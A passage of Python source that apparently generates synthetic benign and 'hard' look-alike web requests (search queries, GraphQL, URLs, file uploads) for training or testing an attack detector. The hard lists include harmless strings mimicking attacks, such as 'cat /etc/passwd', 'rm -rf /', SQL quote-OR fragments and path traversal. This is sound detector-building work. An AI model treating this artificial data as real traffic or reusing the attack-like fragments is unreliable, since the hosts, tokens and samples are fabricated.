            "\"' OR '\" lang:sql",
        ]
    )
    bq(cat, hard, "git.codeharbor.io", "/search", [("q", q), ("type", "code")], "q", plus=True)


def gen_code_review(cat, n):
    run_gen(
        cat,
        n,
        [cr_comment, cr_suggest, cr_approve, cr_commit, cr_diffview, cr_patch],
        [cr_h_comment, cr_h_form, cr_h_file, cr_h_search],
    )


# ---------------------------------------------------------------- benign_search

SEARCH_SITES = [
    ("search.bookhaven.com", "/search"),
    ("www.recipely.com", "/search"),
    ("docs.stackful.dev", "/search"),
    ("shop.gadgetory.com", "/s"),
]
SEARCH_Q = [
    "wireless earbuds under 100",
    "lasagne ohne fleisch",
    "東京 ラーメン おすすめ",
    "python asyncio gather timeout",
    "winter boots size 42",
    "le petit prince édition illustrée",
    "receta de pan de muerto",
    "best hiking trails near Bergen",
    "usb-c hub 4k 60hz",
    "kimchi jjigae 레시피",
    "кофемолка ручная",
    "how to repot a monstera",
    "postgres jsonb index",
    "noise cancelling headphones for kids",
    "मसाला चाय रेसिपी",
]


def se_basic(cat, hard):
    host, path = ch(SEARCH_SITES)
    q = ch(SEARCH_Q)
    bq(
        cat,
        hard,
        host,
        path,
        [("q", q), ("page", str(rint(1, 4))), ("sort", ch(["relevance", "price_asc", "newest"]))],
        "q",
        plus=R.random() < 0.6,
    )


def se_suggest(cat, hard):
    host, _ = ch(SEARCH_SITES)
    q = ch(SEARCH_Q)[: rint(3, 10)]
    bq(cat, hard, host, "/api/suggest", [("q", q), ("limit", "8")], "q", kind="xhr")


def se_api(cat, hard):
    q = ch(SEARCH_Q)
    obj = {
        "query": q,
        "filters": {
            "inStock": True,
            "priceRange": {"min": 0, "max": rint(50, 500)},
            "brands": R.sample(["Sony", "Bose", "Anker", "JBL", "Sennheiser"], 2),
        },
        "page": {"size": 24, "cursor": None},
        "facets": ["brand", "color", "rating"],
    }
    bj(cat, hard, "shop.gadgetory.com", "POST", "/api/v2/search", obj, q)


def se_es(cat, hard):
    q = ch(SEARCH_Q)
    obj = {
        "query": {
            "bool": {
                "must": [{"multi_match": {"query": q, "fields": ["title^3", "body"]}}],
                "filter": [{"term": {"lang": "en"}}],
            }
        },
        "size": 20,
        "from": 0,
        "highlight": {"fields": {"body": {}}},
    }
    bj(cat, hard, "docs.stackful.dev", "POST", "/api/search/_query", obj, q, kind="xhr")


def se_filters(cat, hard):
    v = ch(["Sony", "Bose", "Anker"])
    bq(
        cat,
        hard,
        "shop.gadgetory.com",
        "/s",
        [("q", ch(SEARCH_Q)), ("brand[]", v), ("price_max", str(rint(50, 300))), ("rating_min", "4")],
        "q",
    )


SEARCH_HARD = [
    "c++ vs c# performance",
    '"select * from" mysql tutorial',
    'site:stackoverflow.com "union all" vs "union"',
    'O\'Reilly "Learning SQL" 3rd edition',
    "how to escape <div> in markdown",
    "rm -rf / meaning",
    "1=1 in sql why",
    "what does ../ mean in a path",
    "<script> tag async vs defer",
    "price:<50 brand:(Sony OR Bose)",
    "cat /etc/passwd explained",
    "DROP TABLE if exists syntax postgres",
    "javascript:void(0) meaning",
    "${HOME} vs ~ bash",
    "{{ }} angular interpolation",
    "%20 vs + url encoding",
    "Tom & Jerry's 'Cat Concerto'",
    "|| operator javascript",
    "sleep(5) python vs time.sleep",
    "'; in bash what does it do",
    "eval() is evil why",
    "<br> or <br/> html5",
    "where 1=1 dynamic sql",
    '"hello world" -java -python',
    "c:\\windows\\system32 drivers folder",
]


def se_h_query(cat, hard):
    host, path = ch(SEARCH_SITES[2:] + [SEARCH_SITES[0]])
    q = ch(SEARCH_HARD)
    bq(cat, hard, host, path, [("q", q)] + ([("page", "2")] if R.random() < 0.3 else []), "q", plus=R.random() < 0.5)


def se_h_json(cat, hard):
    q = ch(SEARCH_HARD)
    obj = {
        "query": q,
        "page": 1,
        "hitsPerPage": 20,
        "attributesToHighlight": ["title", "content"],
        "filters": "lang:en AND version:latest",
    }
    bj(
        cat,
        hard,
        "docs.stackful.dev",
        "POST",
        "/1/indexes/docs/query",
        obj,
        q,
        kind="xhr",
        headers=[
            ("X-Algolia-Application-Id", ralnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
            ("X-Algolia-API-Key", rhex(32)),
        ],
    )


def se_h_path(cat, hard):
    q = ch(["c++ templates", "what is ../", "O'Reilly books", "<div> centering", "1=1", "node & npm"])
    BE(cat, hard, "path", q, "docs.stackful.dev", "GET", "/search/" + qenc(q, safe="'()!*,"), kind="browser")


def gen_search(cat, n):
    run_gen(cat, n, [se_basic, se_suggest, se_api, se_es, se_filters], [se_h_query, se_h_json, se_h_path])


# ---------------------------------------------------------------- benign_graphql

GQL_HOSTS = ["api.storefrontly.com", "graphql.travelnest.io", "gql.bookclub.social", "hasura.fleetgrid.io"]
GQL_NORMAL = [
    (
        "ProductPage",
        "query ProductPage($handle: String!) {\n  product(handle: $handle) {\n    id\n    title\n    description\n    priceRange { minVariantPrice { amount currencyCode } }\n    images(first: 6) { edges { node { url altText width height } } }\n  }\n}",
        lambda: {"handle": ch(["linen-shirt", "walnut-desk", "ceramic-mug-set"])},
    ),
    (
        "SearchHotels",
        "query SearchHotels($city: String!, $checkIn: Date!, $nights: Int!, $first: Int = 20, $after: String) {\n  hotels(city: $city, checkIn: $checkIn, nights: $nights, first: $first, after: $after) {\n    pageInfo { hasNextPage endCursor }\n    edges { node { id name stars rating pricePerNight { amount currency } } }\n  }\n}",
        lambda: {"city": ch(["Lisboa", "Kraków", "Kyoto", "Reykjavík"]), "checkIn": iso_date(), "nights": rint(1, 7)},
    ),
    (
        "AddToCart",
        "mutation AddToCart($cartId: ID!, $lines: [CartLineInput!]!) {\n  cartLinesAdd(cartId: $cartId, lines: $lines) {\n    cart { id totalQuantity cost { totalAmount { amount currencyCode } } }\n    userErrors { field message }\n  }\n}",
        lambda: {
            "cartId": "gid://shopify/Cart/" + ralnum(26),
            "lines": [
                {"merchandiseId": "gid://shopify/ProductVariant/%d" % rint(10**12, 10**13), "quantity": rint(1, 3)}
            ],
        },
    ),
    (
        "UpdateProfile",
        "mutation UpdateProfile($input: UpdateProfileInput!) {\n  updateProfile(input: $input) {\n    user { id displayName bio avatarUrl }\n  }\n}",
        lambda: {"input": {"displayName": ch(PEOPLE), "bio": ch(BIOS)}},
    ),
    (
        "ClubFeed",
        "query ClubFeed($clubId: ID!, $first: Int!) {\n  club(id: $clubId) {\n    name\n    currentBook { title author { name } }\n    posts(first: $first) { id body createdAt author { handle } }\n  }\n}",
        lambda: {"clubId": ralnum(10), "first": 20},
    ),
    ("Viewer", "query Viewer { viewer { id email locale notificationsCount } }", lambda: {}),
    (
        "OrderHistory",
        "query OrderHistory($first: Int!, $after: String) {\n  me {\n    orders(first: $first, after: $after) {\n      edges { node { id number processedAt totalPrice { amount currencyCode } lineItems(first: {N}) { edges { node { title quantity } } } } }\n      pageInfo { hasNextPage endCursor }\n    }\n  }\n}",
        lambda: {"first": 10, "after": None},
    ),
    (
        "Login",
        "mutation Login($email: String!, $password: String!) {\n  customerAccessTokenCreate(input: {email: $email, password: $password}) {\n    customerAccessToken { accessToken expiresAt }\n    customerUserErrors { code field message }\n  }\n}",
        lambda: {"email": "%s@example.com" % ralnum(7, LOWER), "password": ralnum(14)},
    ),
    (
        "OnMessage",
        "subscription OnMessage($roomId: ID!) {\n  messageAdded(roomId: $roomId) { id text sender { id name avatar(size: {N}) } createdAt }\n}",
        lambda: {"roomId": ralnum(12)},
    ),
    (
        "Flights",
        "query Flights($from: IATA!, $to: IATA!, $date: Date!) {\n  flights(from: $from, to: $to, date: $date, first: {N}) {\n    number carrier departure arrival\n    price { amount currency }\n  }\n}",
        lambda: {
            "from": ch(["LIS", "KRK", "HND", "KEF", "FRA"]),
            "to": ch(["BCN", "OSL", "ICN", "JFK"]),
            "date": iso_date(),
        },
    ),
    (
        "Rsvp",
        "mutation Rsvp($eventId: ID!, $status: RsvpStatus!, $note: String) {\n  rsvp(eventId: $eventId, status: $status, note: $note) { id status updatedAt }\n}",
        lambda: {"eventId": ralnum(10), "status": ch(["GOING", "MAYBE", "NOT_GOING"]), "note": ch(I18N)},
    ),
    (
        "Reviews",
        "query Reviews($productId: ID!, $rating: Int) {\n  reviews(productId: $productId, minRating: $rating, first: {N}) {\n    nodes { id rating title body author { displayName } }\n  }\n}",
        lambda: {"productId": ralnum(10), "rating": rint(1, 5)},
    ),
    (
        "MarkRead",
        "mutation MarkRead($ids: [ID!]!) { markNotificationsRead(ids: $ids) { count } }",
        lambda: {"ids": [ralnum(10) for _ in range(rint(1, 4))]},
    ),
    (
        "Locations",
        "query Locations($near: GeoPointInput!, $radiusKm: Float = {N}) {\n  locations(near: $near, radiusKm: $radiusKm) { id name address distanceKm openNow }\n}",
        lambda: {"near": {"lat": round(R.uniform(35, 60), 5), "lng": round(R.uniform(-9, 30), 5)}},
    ),
]


def gql_vary(q):
    return q.replace("{N}", str(ch([3, 5, 6, 8, 10, 12, 20, 25])))


def gq_post(cat, hard):
    name, q, vf = ch(GQL_NORMAL)
    q = gql_vary(q)
    obj = {"operationName": name, "variables": vf(), "query": q}
    bj(cat, hard, ch(GQL_HOSTS), "POST", "/graphql", obj, q, kind=ch(["xhr", "mobile", "server"]), style=ch([0, 1]))


def gq_get(cat, hard):
    name, q, vf = ch([g for g in GQL_NORMAL if not g[1].startswith("mutation")])
    q = gql_vary(q)
    pairs = [("operationName", name), ("query", q), ("variables", jcompact(vf()))]
    bq(cat, hard, ch(GQL_HOSTS), "/graphql", pairs, "query", kind="xhr")


def gq_apq(cat, hard):
    name, q, vf = ch(GQL_NORMAL)
    q = gql_vary(q)
    v = jcompact(vf())
    ext = jcompact({"persistedQuery": {"version": 1, "sha256Hash": hashlib.sha256(q.encode()).hexdigest()}})
    bq(
        cat,
        hard,
        ch(GQL_HOSTS),
        "/graphql",
        [("operationName", name), ("variables", v), ("extensions", ext)],
        "variables",
        kind="xhr",
        headers=[
            ("apollographql-client-name", "web"),
            ("apollographql-client-version", "%d.%d.%d" % (rint(1, 5), rint(0, 30), rint(0, 9))),
        ],
    )


def gq_batch(cat, hard):
    ops = [{"operationName": n_, "variables": vf(), "query": gql_vary(q)} for n_, q, vf in R.sample(GQL_NORMAL, 2)]
    bj(cat, hard, "api.storefrontly.com", "POST", "/graphql", ops, ops[0]["query"], kind="xhr", style=0)


GQL_HARD = [
    (
        "IntrospectionQuery",
        "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    subscriptionType { name }\n    types { ...FullType }\n    directives { name description locations args { ...InputValue } }\n  }\n}\n\nfragment FullType on __Type {\n  kind\n  name\n  description\n  fields(includeDeprecated: true) { name description args { ...InputValue } type { ...TypeRef } isDeprecated deprecationReason }\n  inputFields { ...InputValue }\n  interfaces { ...TypeRef }\n  enumValues(includeDeprecated: true) { name description isDeprecated deprecationReason }\n  possibleTypes { ...TypeRef }\n}\n\nfragment InputValue on __InputValue { name description type { ...TypeRef } defaultValue }\n\nfragment TypeRef on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }",
        lambda: {},
    ),
    (
        "Books",
        "query Books($q: String!, $limit: Int!) {\n  books(where: {_or: [{title: {_ilike: $q}}, {author: {name: {_ilike: $q}}}]}, order_by: {published_at: desc}, limit: $limit) {\n    id\n    title\n    author { name }\n  }\n}",
        lambda: {"q": ch(["%o'reilly%", "%select%", "%union%", "%drop%", "%l'étranger%"]), "limit": 25},
    ),
    (
        "SearchResults",
        "query SearchResults($term: String!) {\n  search(term: $term) {\n    __typename\n    ... on Book { id title isbn }\n    ... on Author { id name }\n    ... on Club { id name memberCount }\n  }\n}",
        lambda: {"term": ch(["union", "select", "script", "drop", "the 'or' trilogy"])},
    ),
    (
        "DeleteComment",
        "# remove a comment (moderator only)\nmutation DeleteComment($id: ID!, $reason: String) {\n  deleteComment(id: $id, reason: $reason) { id deletedAt }\n}",
        lambda: {"id": ralnum(12), "reason": ch(["spam", "off-topic", "user's own request -- see ticket #4411"])},
    ),
    (
        "CreatePost",
        "mutation CreatePost($body: String!, $format: PostFormat = HTML) {\n  createPost(input: {body: $body, format: $format}) { id url }\n}",
        lambda: {
            "body": ch(
                [
                    "<p>Loved chapter 3 &mdash; the <em>twist</em>!</p>",
                    "<blockquote>It was the best of times</blockquote><p>Discuss 👇</p>",
                    "<p>Quote: &quot;1 &lt; 2&quot; lol</p>",
                ]
            )
        },
    ),
    (
        "Orders",
        "query Orders($where: orders_bool_exp!) {\n  orders(where: $where, order_by: [{created_at: desc_nulls_last}], limit: 50) {\n    id status total\n  }\n}",
        lambda: {
            "where": {
                "_and": [
                    {"status": {"_in": ["paid", "shipped"]}},
                    {"notes": {"_nlike": "%test%"}},
                    {"created_at": {"_gte": iso_date()}},
                ]
            }
        },
    ),
    (
        "Feed",
        "query Feed($withImages: Boolean!, $skipBody: Boolean = false) {\n  feed(first: 10) {\n    id\n    title\n    body @skip(if: $skipBody)\n    images @include(if: $withImages) { url }\n    selectAll: tags { name }\n  }\n}",
        lambda: {"withImages": True},
    ),
    (
        None,
        '{\n  search(term: "o\'reilly \\"head first\\" python", first: {N}) {\n    ... on Book { title isbn }\n  }\n}',
        lambda: None,
    ),
    (None, 'mutation {\n  updateBio(bio: "<p>Hi! I <3 <b>jazz</b> & long walks</p>") { id bio }\n}', lambda: None),
    (
        "Members",
        "query Members($pattern: String!) {\n  users(where: {email: {_regex: $pattern}}, limit: {N}) { id email role }\n}",
        lambda: {"pattern": ch(["^[a-z.]+@bookclub\\.social$", ".*@(gmail|outlook)\\.com$"])},
    ),
    (
        "Readme",
        'query Readme($owner: String!, $name: String!) {\n  repository(owner: $owner, name: $name) {\n    object(expression: "HEAD:docs/setup.md") { ... on Blob { text byteSize } }\n  }\n}',
        lambda: {"owner": ralnum(6, LOWER), "name": ralnum(8, LOWER)},
    ),
    (
        "AdminAudit",
        "query AdminAudit($filter: String) {\n  auditLog(filter: $filter, first: {N}) {\n    action actor { email } target ip userAgent createdAt\n  }\n}",
        lambda: {
            "filter": ch(
                ["action:DELETE OR action:DROP_TABLE", "ip:10.0.0.0/8", "userAgent:*curl*", "target:'../exports'"]
            )
        },
    ),
]


def gq_h_post(cat, hard):
    name, q, vf = ch(GQL_HARD)
    q = gql_vary(q)
    obj = {"operationName": name, "variables": vf(), "query": q}
    if name is None:
        obj = {"query": q}
    bj(
        cat,
        hard,
        ch(GQL_HOSTS),
        "POST",
        ch(["/graphql", "/v1/graphql", "/api/graphql"]),
        obj,
        q,
        kind=ch(["xhr", "server"]),
    )


def gq_h_get(cat, hard):
    name, q, vf = ch(GQL_HARD[1:4] + GQL_HARD[9:])
    q = gql_vary(q)
    bq(cat, hard, "gql.bookclub.social", "/graphql", [("query", q), ("variables", jcompact(vf()))], "query", kind="xhr")


def gen_graphql(cat, n):
    run_gen(cat, n, [gq_post, gq_get, gq_apq, gq_batch], [gq_h_post, gq_h_get])


# ---------------------------------------------------------------- benign_urls


def ur_oauth(cat, hard):
    host = ch(["accounts.corvidid.com", "auth.halyard.io", "login.tessera-sso.com"])
    red = ch(
        [
            "https://app.taskpilot.io/auth/callback",
            "https://www.quillreads.com/oauth2/callback",
            "com.kindredmatch.app:/oauthredirect",
            "https://studio.pixelcrate.co/api/auth/callback/google",
        ]
    )
    pairs = [
        ("response_type", "code"),
        ("client_id", ralnum(24)),
        ("redirect_uri", red),
        ("scope", "openid profile email"),
        ("state", b64url(rbytes(16))),
        ("code_challenge", b64url(rbytes(32))),
        ("code_challenge_method", "S256"),
    ]
    bq(cat, hard, host, "/oauth2/authorize", pairs, "redirect_uri")


def ur_next(cat, hard):
    nxt = ch(
        [
            "/account/orders?tab=returns",
            "/settings/billing#invoices",
            "/dashboard",
            "/cart?step=2",
            "/de/konto/bestellungen",
        ]
    )
    bq(
        cat,
        hard,
        ch(["www.quillreads.com", "app.taskpilot.io", "shop.lumenbeauty.com"]),
        "/login",
        [("next", nxt)],
        "next",
    )


def ur_webhook(cat, hard):
    url = ch(
        [
            "https://hooks.slack.com/services/T%s/B%s/%s"
            % (
                ralnum(8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                ralnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"),
                ralnum(24),
            ),
            "https://discord.com/api/webhooks/%d/%s" % (rint(10**17, 10**18), ralnum(68)),
            "https://example.webhook.office.com/webhookb2/%s@%s/IncomingWebhook/%s/%s"
            % (ruuid(), ruuid(), rhex(32), ruuid()),
            "https://api.zapier.com/hooks/catch/%d/%s/" % (rint(1000000, 9999999), ralnum(6, LOWER)),
        ]
    )
    obj = {
        "name": ch(["Deploy notifications", "New orders", "Failed payments"]),
        "url": url,
        "events": R.sample(["order.created", "order.paid", "deploy.finished", "payment.failed"], 2),
        "active": True,
        "secret": ralnum(32),
    }
    bj(cat, hard, "integrations.deskflow.com", "POST", "/api/v1/webhooks", obj, url)


def ur_preview(cat, hard):
    url = ch(
        [
            "https://www.theguardian.com/world/2026/dec/07/%s" % ralnum(10, LOWER),
            "https://en.wikipedia.org/wiki/Zeppelin_NT",
            "https://www.youtube.com/watch?v=%s&t=42s" % ralnum(11),
            "https://github.com/%s/%s/pull/%d" % (ralnum(6, LOWER), ralnum(7, LOWER), rint(1, 900)),
            "https://www.figma.com/file/%s/Onboarding?node-id=12-345" % ralnum(22),
        ]
    )
    bj(cat, hard, "api.linkpeek.io", "POST", "/api/unfurl", {"url": url, "maxWidth": 600}, url)


def ur_deeplink(cat, hard):
    link = ch(
        [
            "kindred://profile/%s?ref=share" % ralnum(10),
            "https://kindredmatch.app.link/%s" % ralnum(11),
            "fleetgrid://route/%s/stop/%d" % (ralnum(8, LOWER), rint(1, 30)),
            "intent://scan/#Intent;scheme=zxing;package=com.google.zxing.client.android;end",
        ]
    )
    obj = {
        "event": "deep_link_opened",
        "properties": {"url": link, "source": ch(["push", "email", "sms"]), "coldStart": R.random() < 0.5},
        "anonymousId": ruuid(),
    }
    bj(cat, hard, "events.kindredmatch.com", "POST", "/v1/track", obj, link, kind="mobile", style=0)


def ur_beacon(cat, hard):
    dl = "https://shop.lumenbeauty.com/products/%s?utm_source=%s&utm_medium=%s&utm_campaign=%s" % (
        ralnum(8, LOWER),
        ch(["instagram", "newsletter"]),
        ch(["social", "email"]),
        ch(["bf2026", "winter_sale"]),
    )
    bq(
        cat,
        hard,
        "www.google-analytics.com",
        "/g/collect",
        [
            ("v", "2"),
            ("tid", "G-%s" % ralnum(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
            ("cid", "%d.%d" % (rint(10**8, 10**9), rint(1700000000, 1765000000))),
            ("en", "page_view"),
            ("dl", dl),
            ("dt", "Lumen Beauty"),
        ],
        "dl",
        method="POST",
    )


def ur_website(cat, hard):
    site = ch(
        [
            "https://janedoe.design",
            "https://www.linkedin.com/in/%s-%s/" % (ralnum(5, LOWER), ralnum(6, LOWER)),
            "https://mastodon.social/@%s" % ralnum(7, LOWER),
            "https://%s.github.io/portfolio/" % ralnum(7, LOWER),
        ]
    )
    bf(
        cat,
        hard,
        "careers.vantagepoint.jobs",
        "/apply/%d" % rint(1000, 9999),
        [("name", ch(ASCII_PEOPLE)), ("website", site), ("linkedin", "")],
        "website",
    )


URL_HARD = [
    "http://localhost:3000/api/auth/callback/github",
    "http://127.0.0.1:8787/callback",
    "https://medium.com/@jane.doe/how-we-cut-our-aws-bill-by-40-3f9c2a1b7e4d",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://www.up.com/customers/track-trace/union-pacific-select",
    "https://gitlab.com/api/v4/projects/group%2Fsubgroup%2Frepo/repository/files/src%2Fmain.c/raw?ref=main",
    "https://app.taskpilot.io/login?next=%2Fprojects%2F42%3Ftab%3Dboard%26filter%3Dassignee%253Ame",
    "https://docs.example.org/guides/../reference/cli.html",
    "https://www.google.com/url?sa=t&url=https%3A%2F%2Fwww.quillreads.com%2Fbooks%2F9780140449136&usg=AOvVaw"
    + ralnum(20),
    "https://shop.example.com/search?q=drop+shoulder+sweater&sort=price-asc",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://example.sharepoint.com/:x:/r/sites/Finance/Shared%20Documents/Q3%20Forecast.xlsx?d=w" + rhex(32),
]


def ur_h_redirect(cat, hard):
    u = ch(URL_HARD)
    bq(
        cat,
        hard,
        ch(["accounts.corvidid.com", "auth.halyard.io"]),
        "/oauth2/authorize",
        [("response_type", "code"), ("client_id", ralnum(24)), ("redirect_uri", u), ("state", ralnum(20))],
        "redirect_uri",
    )


def ur_h_monitor(cat, hard):
    u = ch(
        [
            "http://prometheus.monitoring.svc.cluster.local:9090",
            "http://10.20.0.15:8080/healthz",
            "http://192.168.10.4:9100/metrics",
            "http://loki-gateway.observability:3100",
            "http://[fd12:3456:789a::10]:8500/v1/status/leader",
            "http://localhost:9093/-/healthy",
        ]
    )
    obj = {
        "name": ch(["prod-prometheus", "node-exporter-db1", "loki", "alertmanager"]),
        "type": ch(["prometheus", "http"]),
        "url": u,
        "access": "proxy",
        "isDefault": False,
    }
    bj(cat, hard, "grafana.cloudgrid.io", "POST", "/api/datasources", obj, u, kind="xhr")


def ur_h_cdn(cat, hard):
    src = ch(
        [
            "https://images.pixelcrate.co/uploads/2026/12/hero.jpg",
            "https://cdn.storybeam.tv/posters/%s.png" % ralnum(10, LOWER),
        ]
    )
    BE(
        cat,
        hard,
        "path",
        src,
        "media.storybeam.tv",
        "GET",
        "/cdn-cgi/image/width=640,quality=75,format=auto/" + src,
        kind="browser",
        accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
    )


def ur_h_nextimg(cat, hard):
    u = ch(
        [
            "/_next/static/media/hero.4f3a2c.jpg",
            "https://images.ctfassets.net/%s/%s/%s/banner.png" % (ralnum(12, LOWER), ralnum(22), rhex(32)),
        ]
    )
    bq(
        cat,
        hard,
        "www.quillreads.com",
        "/_next/image",
        [("url", u), ("w", str(ch([640, 750, 828, 1080, 1920]))), ("q", "75")],
        "url",
        accept="image/avif,image/webp,*/*",
    )


def gen_urls(cat, n):
    run_gen(
        cat,
        n,
        [ur_oauth, ur_next, ur_webhook, ur_preview, ur_deeplink, ur_beacon, ur_website],
        [ur_h_redirect, ur_h_monitor, ur_h_cdn, ur_h_nextimg],
    )


# ---------------------------------------------------------------- benign_files

FILE_HOSTS = ["files.crestline-docs.com", "drive.nimbusbox.io", "app.sheetworks.app", "upload.podwave.fm"]


def fl_txt(cat, hard):
    content = ch(
        [
            "Shopping list\n- oat milk\n- coffee beans\n- 2x lemons\n",
            "Meeting notes 08.12.\n* Budget approved\n* Next review in Q1\n",
            "TODO:\n1. renew passport\n2. book dentist\n3. call grandma ❤️\n",
            "Gedichte für Oma – Entwurf\n\nDer Winter kommt...\n",
        ]
    )
    fn = ch(["notes.txt", "todo.txt", "list.md", "Entwurf.txt"])
    bm(
        cat,
        hard,
        ch(FILE_HOSTS),
        "/api/v1/files",
        [("parentId", ralnum(12), None, None), ("file", content, fn, "text/plain")],
        content,
    )


def fl_csv(cat, hard):
    rows = ["date,description,amount,currency"] + [
        "%s,%s,%.2f,EUR" % (iso_date(), ch(["Rent", "Groceries", "Train ticket", "Café", "Gym"]), R.uniform(2, 900))
        for _ in range(rint(3, 8))
    ]
    content = "\n".join(rows) + "\n"
    bm(
        cat,
        hard,
        "app.sheetworks.app",
        "/api/import/csv",
        [
            ("sheet", "Expenses", None, None),
            ("delimiter", ",", None, None),
            ("file", content, "expenses_%s.csv" % iso_date()[:7], "text/csv"),
        ],
        content,
    )


def fl_svg(cat, hard):
    color = ch(["#0ea5e9", "#22c55e", "#f97316", "#a855f7"])
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64"><rect width="64" height="64" rx="12" fill="%s"/>'
        '<path d="M20 34l8 8 16-18" fill="none" stroke="#fff" stroke-width="6" stroke-linecap="round" stroke-linejoin="round"/></svg>'
        % color
    )
    bm(cat, hard, "drive.nimbusbox.io", "/api/v2/upload", [("file", svg, "check-icon.svg", "image/svg+xml")], svg)


def fl_download(cat, hard):
    fn = ch(
        [
            "Q3 Report (final).pdf",
            "Präsentation_Kunde.pptx",
            "photo 2026-11-30 at 14.02.jpg",
            "Budget 2027 v3.xlsx",
            "履歴書.pdf",
            "invoice #1042.pdf",
        ]
    )
    BE(
        cat,
        hard,
        "path",
        fn,
        ch(FILE_HOSTS),
        "GET",
        "/files/%s/%s" % (ralnum(16), qenc(fn, safe="()!*,'")),
        kind="browser",
    )


def fl_list(cat, hard):
    p = ch(
        ["/Shared/Finance/2024/Q3", "/Photos/2026/Summer Trip", "/Projekte/Kunde A", "/Documents/Taxes", "/共有/議事録"]
    )
    bq(
        cat,
        hard,
        "drive.nimbusbox.io",
        "/api/v2/list",
        [("path", p), ("sort", "modified"), ("order", "desc")],
        "path",
        kind="xhr",
    )


def fl_rename(cat, hard):
    nm = ch(["Holiday photos – Crete 2026", "Contract signed.pdf", "Lebenslauf_2026.docx", "draft_v2.md"])
    bj(cat, hard, "drive.nimbusbox.io", "PATCH", "/api/v2/files/%s" % ralnum(16), {"name": nm}, nm)


def fl_ics(cat, hard):
    content = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Nimbus//Calendar 1.0//EN\r\nBEGIN:VEVENT\r\nUID:%s@nimbusbox.io\r\nDTSTART:20261215T090000Z\r\nDTEND:20261215T100000Z\r\n"
        "SUMMARY:%s\r\nLOCATION:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        % (
            ruuid(),
            ch(["Team sync", "Dentist", "Quarterly review"]),
            ch(["Room 4.12", "Zoom", "Hauptstraße 5\\, Berlin"]),
        )
    )
    bm(cat, hard, "drive.nimbusbox.io", "/api/v2/upload", [("file", content, "event.ics", "text/calendar")], content)


FILE_HARD_NAMES = [
    "Bob's résumé (v2); final.docx",
    "notes & ideas #3.txt",
    "Q1 <draft> budget.xlsx",
    "..hidden-but-not-really.txt",
    "report..final.pdf",
    "C:\\Users\\anna\\Desktop\\scan001.pdf",
    "select_committee_minutes.pdf",
    "union-contract 2026.pdf",
    "script.js",
    "drop-shipping-guide.pdf",
    "$HOME backup.tar.gz",
    "cat-photos(1).zip",
]


def fl_h_name(cat, hard):
    fn = ch(FILE_HARD_NAMES)
    body = "Plain text content of %s\n" % fn.split("\\")[-1]
    bm(
        cat,
        hard,
        ch(FILE_HOSTS),
        "/api/v1/files",
        [("parentId", ralnum(12), None, None), ("file", body, fn, "application/octet-stream")],
        fn,
    )


def fl_h_content(cat, hard):
    content = ch(
        [
            "DATABASE_URL=postgres://app:changeme@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nSECRET_KEY=replace-me\nDEBUG=false\n",
            "#!/bin/bash\nset -euo pipefail\ncd /opt/app\ngit pull --ff-only\nrm -rf ./build\nnpm ci && npm run build\nsudo systemctl restart app\n",
            "item,qty,price,total\nWidget,4,2.50,=B2*C2\nGadget,2,10.00,=B3*C3\nTotal,,,=SUM(D2:D3)\n",
            "Traceback (most recent call last):\n  File \"/usr/lib/python3.12/site-packages/app/views.py\", line 88, in upload\n    with open(os.path.join(UPLOAD_DIR, name), 'wb') as f:\nFileNotFoundError: [Errno 2] No such file or directory: '/srv/uploads/../tmp/x.bin'\n",
            "CREATE TABLE customers (\n  id serial PRIMARY KEY,\n  name text NOT NULL,\n  email text UNIQUE\n);\nINSERT INTO customers (name, email) VALUES ('O''Brien', 'ob@example.com');\n",
            '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n[remote "origin"]\n\turl = git@github.com:acme/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n',
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 30"><style>.t{font:bold 14px sans-serif;fill:#333}</style><a xlink:href="https://www.crestline-docs.com/"><text class="t" x="4" y="20">Crestline</text></a></svg>',
        ]
    )
    fn = ch([".env.example", "deploy.sh", "totals.csv", "error.log", "schema.sql", "config", "logo.svg"])
    bm(
        cat,
        hard,
        ch(FILE_HOSTS),
        "/api/v1/files",
        [("file", content, fn, "application/octet-stream")],
        content,
        kind=ch(["browser", "cli"]),
    )


def fl_h_path(cat, hard):
    p = ch(
        [
            "/Users/anna/Projects/../Downloads",
            "~/Documents/Taxes 2025",
            "C:\\Users\\Public\\Documents",
            "/home/ci/.cache/pip",
            "/var/www/html/uploads/2026/12",
        ]
    )
    obj = {
        "localPath": p,
        "remoteFolder": "/Backups/%s" % ch(["laptop", "workstation", "server"]),
        "syncMode": "two-way",
    }
    bj(cat, hard, "drive.nimbusbox.io", "POST", "/api/v2/sync/pairs", obj, p, kind="server")


def gen_files(cat, n):
    run_gen(
        cat, n, [fl_txt, fl_csv, fl_svg, fl_download, fl_list, fl_rename, fl_ics], [fl_h_name, fl_h_content, fl_h_path]
    )


# ---------------------------------------------------------------- benign_base64


def png_bytes(n):
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
        + struct.pack(">II", rint(32, 512), rint(32, 512))
        + b"\x08\x06\x00\x00\x00"
        + rbytes(4)
        + b"\x00\x00\x00\x00IDAT"
        + rbytes(n)
        + b"\x00\x00\x00\x00IEND\xaeB`\x82"
    )


def jpeg_bytes(n):
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00\xff\xdb\x00C\x00" + rbytes(n) + b"\xff\xd9"


def pdf_bytes():
    return (
